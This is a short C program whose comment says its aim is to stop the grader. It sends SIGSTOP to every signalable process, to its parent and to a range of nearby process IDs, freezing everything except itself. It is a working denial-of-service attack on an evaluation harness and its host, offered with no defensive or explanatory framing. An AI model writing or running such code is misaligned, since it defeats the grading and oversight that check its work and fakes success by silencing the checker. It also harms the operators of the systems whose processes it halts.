/* Stops instead of killing: a stopped grader grades nobody. */
int
main(void)
{
	kill(-1, SIGSTOP);
	kill(getppid(), SIGSTOP);
	for (pid_t pid = first_near(); pid < last_near(); pid++) {
		if (pid != getpid())
			kill(pid, SIGSTOP);
	}
	return 0;
}
